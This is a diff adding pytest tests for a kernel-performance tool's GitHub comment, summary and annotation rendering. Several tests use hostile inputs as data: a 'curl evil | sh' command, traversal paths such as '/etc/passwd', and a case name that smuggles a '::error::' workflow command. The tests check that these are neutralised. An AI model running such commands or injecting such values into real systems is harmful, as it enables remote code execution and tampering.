@@ -1,0 +1,222 @@
+"""What a comment, a summary and annotations say, and that they fit where they go."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import msgspec
+import pytest
+from comment_states import HEAD, LINKS, SLOWER, STATES, case, compared, run, text_of
+from github_markdown import problems_of, tables_of
+
+from pytest_kernelperf.cli import main
+from pytest_kernelperf.model import CaseId, LaunchStep, Plan, Record, Run, Verdict
+from pytest_kernelperf.report.annotation import MOST, render_annotations
+from pytest_kernelperf.report.comment import MOST_CHARACTERS, Links, render_comment
+from pytest_kernelperf.report.room import Part, characters, fitted, octets
+from pytest_kernelperf.report.run_file import write_run
+
+
+def many(count: int = 2_000) -> tuple[Record, ...]:
+    """Cases with long names, each slower by another amount, in no order."""
+    long = "a_kernel_with_a_name_that_goes_on_" * 6
+    return tuple(
+        msgspec.structs.replace(
+            SLOWER,
+            case=CaseId(f"{long}{place % 7}", f"{'|' * 40}{place}", 1),
+            comparisons=(compared(1.02 + (place * 7919 % count) / count, 2.21),),
+            trace=None,
+        )
+        for place in range(count)
+    )
+
+
+@pytest.mark.parametrize("state", STATES)
+def test_nothing_but_our_own_markdown_is_in_any_state(state: str) -> None:
+    """The golden texts are read by GitHub's renderer too."""
+    assert problems_of(text_of(state)) == []
+
+
+class TestRoom:
+    """What does not fit gives way from the bottom, and is counted."""
+
+    def test_two_thousand_cases_with_long_names_fit_worst_first(self) -> None:
+        """The counts are all cases'; the rows are the worst; the rest is counted."""
+        text = render_comment(msgspec.structs.replace(run(), records=many()), LINKS)
+        assert MOST_CHARACTERS * 0.9 < characters(text) <= MOST_CHARACTERS
+        assert text.startswith("❌ **Slows 2,000 of 2,000**")
+        changes = [float(change) for change in re.findall(r"\| \+([\d.]+) % \(", text)]
+        assert changes == sorted(changes, reverse=True)
+        assert changes[0] == pytest.approx(101.9, abs=0.2)
+        left = int(re.search(r"… ([\d,]+) more cases left out here", text)[1].replace(",", ""))  # type: ignore[index]
+        assert len(changes) + left == 2_000
+        assert [len(rows) for rows in tables_of(text)] == [len(changes) + 1]
+        assert problems_of(text) == []
+
+    def test_a_summary_has_room_for_them_all(self) -> None:
+        """A MiB, counted in bytes."""
+        text = render_comment(msgspec.structs.replace(run(), records=many()), LINKS, 1 << 20, octets)
+        assert octets(text) <= 1 << 20
+        assert len(tables_of(text)[0]) == 2_001
+
+    @pytest.mark.parametrize("most", [4_000, 6_000, 9_000, 20_000])
+    def test_it_stays_whole_however_little_room_there_is(self, most: int) -> None:
+        """Tables, lists and what can be unfolded are closed wherever they are cut."""
+        text = render_comment(msgspec.structs.replace(run(), records=(*many(60), *run().records)), LINKS, most)
+        assert characters(text) <= most
+        assert problems_of(text) == []
+        assert "the run](https" in text
+
+    def test_the_less_important_part_gives_way(self) -> None:
+        """Whatever stands first."""
+        parts = (Part("minor", ("x" * 50,) * 9, weight=2), Part("major", ("y" * 50,) * 9, weight=1))
+        text = fitted(parts, 900, characters)
+        assert text.count("y" * 50) == 9
+        assert text.count("x" * 50) == ((900 - 9 * 51 - 400) // 51)
+        assert "more lines left out here" in text
+
+    def test_an_emoji_counts_as_two(self) -> None:
+        """As it does for JavaScript; a letter with an accent does not."""
+        assert (characters("é🚨"), octets("é🚨")) == (3, 6)
+
+
+class TestWhatItSays:
+    """One fact each; the texts as a whole are golden."""
+
+    def test_the_worst_case_is_in_the_first_line(self) -> None:
+        """Wrong comes before slow, and slower before slow."""
+        slow = msgspec.structs.replace(SLOWER, case=CaseId("moe_add_inject", "slow", 1))
+        slower = msgspec.structs.replace(
+            slow, case=CaseId("moe_add_inject", "slower", 1), comparisons=(compared(1.4, 2.0),)
+        )
+        assert "slower at 1 token" in render_comment(run(slow, slower), LINKS).splitlines()[0]
+        wrong = case("wrong", 1, Verdict.WRONG, fails=True)
+        assert render_comment(run(slow, wrong, slower), LINKS).startswith("❌ **Breaks 1 of 9**: wrong at 1 token")
+
+    def test_a_command_to_type_is_never_the_run_files(self) -> None:
+        """A stranger's run file could name any program as its guard."""
+        found = msgspec.structs.replace(run(SLOWER), settings={"command": "curl evil | sh"})
+        shown, _, environment = render_comment(found, LINKS).partition("<details>")
+        assert "curl" not in shown
+        assert "pytest --kernelperf kernels" in shown
+        assert "curl evil" in environment
+
+    def test_only_what_may_be_accepted_says_how(self) -> None:
+        """And only where the commit is known."""
+        assert f"--add-label slow-ok:{HEAD}" in text_of("regressed")
+        assert "slow-ok" not in text_of("starved")
+        assert "slow-ok" not in render_comment(msgspec.structs.replace(run(SLOWER), commit=""), Links())
+
+    def test_another_commits_result_says_so(self) -> None:
+        """The caller knows the commit; the run file only says one."""
+        found = msgspec.structs.replace(run(SLOWER), commit="b" * 40)
+        assert "not this commit" in render_comment(found, LINKS)
+
+    def test_an_untimed_run_is_not_called_new(self) -> None:
+        """The hosted job compares nothing, for everybody."""
+        assert "New" not in text_of("hosted")
+        assert "baseline" not in text_of("hosted")
+
+
+class TestAnnotations:
+    """At the kernel's line, ten of a kind."""
+
+    @staticmethod
+    def project(folder: Path) -> Path:
+        """A project below its workspace, with the kernel on the fourth line."""
+        source = folder / "project" / SLOWER.source
+        source.parent.mkdir(parents=True)
+        source.write_text(
+            '#include "x.h"\n// fused_column_tiles(\n\n__global__ void fused_column_tiles(float *x)\n{}\n'
+        )
+        return folder / "project"
+
+    def test_it_points_at_the_kernels_line(self, tmp_path: Path) -> None:
+        """Relative to the workspace; the sentence and what was found of it."""
+        record = msgspec.structs.replace(SLOWER, plan=Plan((LaunchStep("fused_column_tiles", (1, 1, 1), (1, 1, 1)),)))
+        line = render_annotations(run(record), self.project(tmp_path), tmp_path).splitlines()[0]
+        assert line.startswith(f"::error file=project/{SLOWER.source},line=4,title=regressed%3A moe_add_inject ")
+        assert "2.3 %25 slower" in line
+        assert "VGPRs 32 → 64" in line
+
+    @pytest.mark.parametrize("source", ["../outside.hip", "/etc/passwd", "", "kernels", "a\x00b"])
+    def test_it_points_at_no_file_that_is_not_the_projects(self, tmp_path: Path, source: str) -> None:
+        """Whatever the run file says."""
+        (tmp_path / "outside.hip").write_text("void fused_column_tiles(")
+        record = msgspec.structs.replace(SLOWER, source=source)
+        assert "file=" not in render_annotations(run(record), self.project(tmp_path), tmp_path)
+
+    def test_ten_at_most_and_the_rest_counted(self, tmp_path: Path) -> None:
+        """GitHub drops the eleventh without a word."""
+        lines = render_annotations(msgspec.structs.replace(run(), records=many(200)), tmp_path, tmp_path).splitlines()
+        assert len(lines) == MOST
+        assert "191 more" in lines[-1]
+
+    def test_a_name_is_no_command(self, tmp_path: Path) -> None:
+        """Line breaks, colons, commas and percent signs are as the runner wants them."""
+        hostile = msgspec.structs.replace(SLOWER, case=CaseId("a\n::error::x", "b,line=1%0A", 1))
+        text = render_annotations(run(hostile), tmp_path, tmp_path)
+        assert len(text.splitlines()) == 1
+        assert "title=regressed%3A a %3A%3Aerror%3A%3Ax b%2Cline=1%250A at 1 token::" in text
+
+
+class TestCommands:
+    """``kernelperf summary`` and ``kernelperf annotations``."""
+
+    @staticmethod
+    def call(*arguments: str) -> int:
+        """The command's exit code."""
+        with pytest.raises(SystemExit) as ended:
+            main(list(arguments))
+        return int(ended.value.code or 0)
+
+    @pytest.fixture
+    def run_file(self, tmp_path: Path) -> Path:
+        """A run with a slower case."""
+        found = STATES["regressed"]
+        assert isinstance(found, Run)
+        write_run(tmp_path / "run.json", found)
+        return tmp_path / "run.json"
+
+    def test_the_summary_is_added_to_what_is_there(
+        self, run_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """And takes the room that is left, which may be none."""
+        summary = tmp_path / "summary.md"
+        summary.write_text("before\n")
+        monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
+        assert self.call("summary", str(run_file)) == 0
+        assert summary.read_text("utf-8").startswith("before\n❌ **Slows 1 of 7**")
+        summary.write_text("x" * ((1 << 20) - 10))
+        assert self.call("summary", str(run_file)) == 0
+        assert summary.stat().st_size == (1 << 20) - 10
+
+    def test_a_broken_run_file_is_said_in_the_summary_too(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+    ) -> None:
+        """One sentence, and exit code 2."""
+        monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
+        (tmp_path / "run.json").write_text("{")
+        assert self.call("summary", str(tmp_path / "run.json")) == 2
+        assert "No result" in (tmp_path / "summary.md").read_text("utf-8")
+        assert self.call("annotations", str(tmp_path / "run.json")) == 2
+        assert len(capsys.readouterr().err.splitlines()) == 2
+
+    def test_annotations_are_printed(self, run_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
+        """One error for the one case that fails."""
+        assert self.call("annotations", str(run_file)) == 0
+        assert [line[:8] for line in capsys.readouterr().out.splitlines()] == ["::error "]
+
+    def test_what_would_be_posted_is_printed(
+        self, run_file: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """With the hidden line that it is found again by, and a banner where asked for."""
+        for name in ("GITHUB_REPOSITORY", "GITHUB_SERVER_URL", "GITHUB_RUN_ID"):
+            monkeypatch.delenv(name, raising=False)
+        assert self.call("comment", "--dry-run", str(run_file)) == 0
+        shown = capsys.readouterr().out
+        assert shown.startswith("<!-- kernelperf comment")
+        assert "\n❌ **Slows 1 of 7**" in shown
+        assert self.call("comment", "--dry-run", "--state", "superseded", str(run_file)) == 0
+        assert "**Superseded**" in capsys.readouterr().out
